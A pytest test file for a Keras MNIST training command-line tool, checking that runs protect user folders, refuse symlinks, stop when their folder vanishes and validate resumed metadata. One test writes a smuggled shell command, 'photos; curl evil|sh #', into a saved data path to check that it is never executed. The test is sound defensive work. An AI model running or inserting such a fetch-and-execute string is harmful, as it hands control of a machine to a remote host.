"""What a run does to the folder that it is given, and what becomes of it when that goes away."""

import json
import shutil
from pathlib import Path

import keras
import pytest

from kerascnn import training
from kerascnn.tasks import classification
from kerascnn.tasks.classification import building
from publishers import digits, write_idx

OPTIONS = ("--network", "mlp", "--epochs", 1, "--batch-size", 16)


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    folder = tmp_path_factory.mktemp("mnist")
    write_idx(folder, digits(100, 20))
    return folder


@pytest.fixture
def run(kerascnn, small, tmp_path, undrawn):
    """Train quickly, without figures: `code, out, err = run("--force")`."""

    def train(*words):
        return kerascnn("train-mnist", *OPTIONS, "--data-dir", small, "--out", tmp_path / "run", *words)

    return train


def tree(folder):
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def test_force_deletes_nothing_that_no_training_has_written(run, tmp_path):
    mine = tmp_path / "run" / "checkpoints" / "123456"
    mine.mkdir(parents=True)
    (mine / "photo.jpg").write_text("mine")
    (tmp_path / "run" / "figures").mkdir()
    (tmp_path / "run" / "figures" / "notes.txt").write_text("mine")
    assert run("--force")[0] == 0
    assert (mine / "photo.jpg").read_text() == "mine"
    assert (tmp_path / "run" / "figures" / "notes.txt").read_text() == "mine"


@pytest.mark.parametrize("name", ["", "figures", "checkpoints"])
def test_force_goes_through_no_link(run, tmp_path, name):
    elsewhere, out = tmp_path / "elsewhere", tmp_path / "run"
    (elsewhere / "123456").mkdir(parents=True)
    (elsewhere / "123456" / "photo.jpg").write_text("mine")
    (elsewhere / "curves.png").write_text("mine")
    before = tree(elsewhere)
    if name:
        out.mkdir()
    (out / name).symlink_to(elsewhere)
    code, _, err = run("--force")
    assert (code, err.count("\n")) == (2, 1)
    assert "is a link" in err
    assert tree(elsewhere) == before


def test_a_file_that_is_a_link_is_replaced(run, tmp_path):
    (tmp_path / "mine.txt").write_text("mine")
    (tmp_path / "run").mkdir()
    for name in ("model.keras", "run.json", "metrics.json", "history.csv"):
        (tmp_path / "run" / name).symlink_to(tmp_path / "mine.txt")
    assert run("--force")[0] == 0
    assert (tmp_path / "mine.txt").read_text() == "mine"


def test_a_folder_in_the_place_of_a_file_is_said_before_the_training(run, tmp_path):
    (tmp_path / "run" / "model.keras").mkdir(parents=True)
    code, out, err = run("--force")
    assert (code, out) == (2, "")
    assert "model.keras is a folder, where a file of the run belongs; move it away, or choose another --out" in err


def test_a_folder_that_appears_while_the_data_are_read_is_left_alone(run, tmp_path, monkeypatch):
    original = building.build

    def build(plan, dataset):
        (tmp_path / "run").mkdir()
        (tmp_path / "run" / "run.json").write_text("mine")
        return original(plan, dataset)

    monkeypatch.setattr(building, "build", build)
    code, _, err = run()
    assert (code, err.count("\n")) == (2, 1)
    assert "run exists; choose another folder, or --force to write into it" in err
    assert tree(tmp_path / "run") == {"run.json": b"mine"}


class _At(keras.callbacks.Callback):
    def __init__(self, act):
        super().__init__()
        self.act = act

    def on_train_batch_begin(self, batch, logs=None):
        self.act()
        self.act = lambda: None


@pytest.mark.parametrize("way", ["deleted", "moved", "replaced"])
def test_a_folder_that_goes_away_ends_the_training_at_once(run, tmp_path, monkeypatch, way):
    out = tmp_path / "run"

    def act():
        if way == "deleted":
            shutil.rmtree(out)
        else:
            out.rename(tmp_path / "moved")
        if way == "replaced":
            out.mkdir()

    original = keras.Model.fit

    def fit(self, *arguments, callbacks, **settings):
        return original(self, *arguments, callbacks=[_At(act), *callbacks], **settings)

    monkeypatch.setattr(keras.Model, "fit", fit)
    code, printed, err = run()
    assert (code, err.count("\n")) == (1, 1)
    assert f"the folder {out} of this run was deleted or moved: the training has stopped" in err
    assert "epoch 1/1" not in printed
    assert (list(out.iterdir()) if way == "replaced" else out.exists()) in ([], False)


def test_bounds_by_the_data(run, tmp_path):
    code, _, err = run("--shift", 100_000)
    assert (code, err.count("\n")) == (2, 1)
    assert "--shift 100000: the pictures are 28×28; expected 0 to 27" in err
    code, out, _ = run("--batch-size", 10**30, "--shift", 27)
    assert code == 0
    assert "batches of 90: there is no more to learn from\n" in out


def test_what_takes_much_memory_is_said_first():
    layers = keras.layers
    model = keras.Sequential([keras.Input((28, 28, 1)), layers.Conv2D(8, 3), layers.Flatten(), layers.Dense(10)])
    numbers = 26 * 26 * 8 + 26 * 26 * 8 + 10  # what the layers give for a picture
    assert training.step_memory(model, 1000) == 2 * 4 * numbers * 1000


@pytest.fixture
def stopped(run, tmp_path, monkeypatch):
    """A run that was stopped after its only epoch."""

    def stop(*_arguments, **_settings):
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(classification, "test", stop)
        code, _, err = run()
    assert code == 130
    assert "goes on" in err
    return tmp_path / "run"


def test_no_folder_is_read_because_a_file_says_so(kerascnn, stopped, small, tmp_path):
    facts = json.loads((stopped / "run.json").read_text())
    assert facts["asked"]["data_dir"] == str(small)
    facts["asked"]["data_dir"] = f"{tmp_path}/photos; curl evil|sh #"
    (stopped / "run.json").write_text(json.dumps(facts))
    code, out, err = kerascnn("resume", stopped)
    assert (code, out, err.count("\n")) == (2, "", 1)
    command = f"`kerascnn resume {stopped} --data-dir '{tmp_path}/photos; curl evil|sh #'`"
    assert f"this run learned from a folder of yours; name it, so that it is read: {command}" in err
    assert kerascnn("resume", stopped, "--data-dir", small)[0] == 0


def test_data_in_the_run_s_own_folder_are_read(kerascnn, stopped, small):
    shutil.copytree(small, stopped / "data")
    facts = json.loads((stopped / "run.json").read_text())
    facts["asked"]["data_dir"] = str(stopped / "data")
    (stopped / "run.json").write_text(json.dumps(facts))
    shutil.rmtree(stopped / "data")
    (stopped / "data").symlink_to(small)  # which leads out of it
    assert "learned from a folder of yours" in kerascnn("resume", stopped)[2]
    (stopped / "data").unlink()
    shutil.copytree(small, stopped / "data")
    assert kerascnn("resume", stopped)[0] == 0


@pytest.mark.parametrize(
    "changed",
    [
        {"epoch": "1"},
        {"epoch": -1},
        {"epoch": 5},
        {"batch": 1.5},
        {"history": 3},
        {"history": [{"epoch": 1}]},
        {"best_epoch": 7},
        {"seconds": "long"},
        {"seconds": 10**400},
        {"colour": "red"},
    ],
    ids=str,
)
def test_a_checkpoint_that_says_nonsense_is_one_line(stopped, changed):
    checkpoint, _ = training.Checkpoints(stopped / "checkpoints").newest()
    with pytest.raises(ValueError, match="does not say where the training stands; it is of another version"):
        training.TrainingState.from_json(checkpoint.training_state["training"] | changed)


def test_the_recipe_of_a_stranger_s_run_names_no_command(kerascnn, stopped, small):
    facts = json.loads((stopped / "run.json").read_text())
    shutil.rmtree(stopped / "checkpoints")
    for recipe in ("rm", "train-mnist-evil", "predict"):
        (stopped / "run.json").write_text(json.dumps(facts | {"recipe": recipe}))
        code, out, err = kerascnn("resume", stopped, "--data-dir", small)
        assert (code, out, err.count("\n")) == (2, "", 1)
        assert "; expected the name of a practical" in err


def test_a_network_that_no_checkpoint_holds_takes_no_memory(kerascnn, stopped, small):
    facts = json.loads((stopped / "run.json").read_text())
    facts["options"] |= {"network": "airbench", "width": 60}
    (stopped / "run.json").write_text(json.dumps(facts))
    before = training.peak_memory()
    code, out, err = kerascnn("resume", stopped, "--data-dir", small)
    assert (code, out, err.count("\n")) == (2, "", 1)
    assert "and no checkpoint holds so many; it was changed" in err
    assert training.peak_memory() < before + 200e6


def test_a_path_with_a_space_can_be_pasted(kerascnn, stopped, small, tmp_path):
    shutil.rmtree(stopped / "checkpoints")
    stopped.rename(tmp_path / "my run")
    err = kerascnn("resume", tmp_path / "my run", "--data-dir", small)[2]
    assert f"start again with `kerascnn train-mnist --out '{Path(tmp_path / 'my run')}' --force`" in err
